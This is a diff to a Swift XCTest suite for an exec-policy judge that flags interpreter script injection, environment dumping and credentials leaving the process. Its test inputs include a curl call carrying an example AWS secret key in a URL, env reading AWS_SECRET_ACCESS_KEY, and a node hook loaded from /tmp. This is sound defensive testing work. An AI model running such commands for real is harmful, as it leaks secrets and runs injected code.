@@ -149,11 +149,16 @@ final class ExecJudgeTests: XCTestCase {
             XCTAssertEqual(reasons(self.judge("/usr/bin/node", ["node", "-e", "1"], env: ["NODE_OPTIONS=\(options)"])), ["interpreter_script"], options)
         }
         XCTAssertEqual(reasons(self.judge("/usr/bin/node", ["node", "-javaagent:/tmp/hook.js=opt", "app.js"])), ["interpreter_script"])
-        XCTAssertEqual(reasons(self.judge("/usr/bin/python3.11", ["python3", "-c", "1"], env: ["PYTHONPATH=/var/task::/usr"])), [],
-                       "an empty entry is the working directory (/var/task here)")
+        // Only list options are split on `:`; a `:` in any other script path is part of the name.
+        oracle.add("/tmp/x:y.js")
+        XCTAssertEqual(reasons(self.judge("/usr/bin/node", ["node", "-r", "/tmp/x:y.js", "app.js"])), ["interpreter_script"])
         policy.interpreters[2].scriptOptions.append(Bytes("-cp".utf8))
+        policy.interpreters[2].listOptions = [Bytes("-cp".utf8)]
         XCTAssertEqual(reasons(self.judge("/usr/bin/node", ["node", "-cp", "/var/task/a.jar:/tmp/pkg", "Main"])), ["interpreter_script"])
         XCTAssertTrue(self.judge("/usr/bin/node", ["node", "-cp", "/var/task/lib:/usr", "Main"]).isClean)
+        // A script option inside combined short options (`perl -wIdir script`): the script is still judged.
+        policy.interpreters[1].scriptOptions = [Bytes("-I".utf8)]
+        XCTAssertEqual(reasons(self.judge("/usr/bin/python3.11", ["python3", "-uIlibc", "/tmp/x.py"])), ["interpreter_script"])
         // awk: the first argument is program text; -f names a file.
         var awk = InterpreterRule()
         awk.names = [Bytes("awk".utf8)]
@@ -169,7 +174,11 @@ final class ExecJudgeTests: XCTestCase {
 
     func testCredentialsOutOfPlace() {
         policy.credentialValues = [Bytes("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY".utf8)]
-        policy.environmentDumpers = [Bytes("env".utf8)]
+        var env = DumperRule()
+        env.names = [Bytes("env".utf8)]
+        env.valueOptions = [Bytes("-u".utf8), Bytes("-C".utf8)]
+        env.clearingOptions = [Bytes("-i".utf8)]
+        policy.environmentDumpers = [env]
         oracle.add("/usr/bin/env")
         oracle.add("/usr/bin/curl")
         XCTAssertEqual(reasons(judge("/usr/bin/curl", ["curl", "https://x/?k=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"])), ["credentials"])
@@ -179,6 +188,9 @@ final class ExecJudgeTests: XCTestCase {
         policy.credentialVariables = [Bytes("AWS_SECRET_ACCESS_KEY".utf8)]
         XCTAssertEqual(reasons(judge("/usr/bin/env", ["env", "AWS_SECRET_ACCESS_KEY"])), ["credentials"], "printenv NAME")
         XCTAssertTrue(judge("/usr/bin/env", ["env", "python3", "app.py"]).isClean)
+        XCTAssertEqual(reasons(judge("/usr/bin/env", ["env", "-u", "X", "-C", "/tmp"])), ["credentials"], "value options are not commands")
+        XCTAssertTrue(judge("/usr/bin/env", ["env", "-i"]).isClean, "env -i prints nothing inherited")
+        XCTAssertTrue(judge("/usr/bin/env", ["env", "-u", "X", "sh"]).isClean)
         XCTAssertTrue(judge("/usr/bin/env", ["env", "A=1", "sh"]).isClean)
         XCTAssertTrue(judge("/usr/bin/curl", ["curl", "https://x/"]).isClean)
         policy.credentials = .report
